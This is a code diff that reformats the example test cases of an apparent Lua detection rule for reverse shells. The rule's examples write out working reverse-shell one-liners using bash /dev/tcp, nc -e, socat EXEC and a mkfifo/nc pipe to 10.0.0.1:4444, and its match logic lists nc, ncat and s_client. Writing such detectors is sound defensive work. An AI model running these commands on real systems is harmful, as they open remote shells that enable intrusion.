@@ -27,10 +27,13 @@ return {
     return match.contains(cmdline, "mkfifo") and match.contains_any(cmdline, { "nc ", "ncat ", "s_client" })
   end,
   examples = {
-    { expect = true, event = { process = { name = "bash", argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
+    { expect = true, event = { process =
+      { name = "bash", argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
     { expect = true, event = { process = { name = "nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } } } },
-    { expect = true, event = { process = { name = "socat", argv = { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh" } } } },
-    { expect = true, event = { process = { name = "sh", argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
+    { expect = true, event = { process =
+      { name = "socat", argv = { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh" } } } },
+    { expect = true, event = { process =
+      { name = "sh", argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
     { expect = false, event = { process = { name = "nc", argv = { "nc", "-z", "db", "5432" } } } },
     { expect = false, event = { process = { name = "grep", argv = { "grep", "/dev/tcp/", "x" } } } },
     { expect = false, event = { process = { name = "socat", argv = { "socat", "-", "UNIX:/run/x" } } } },
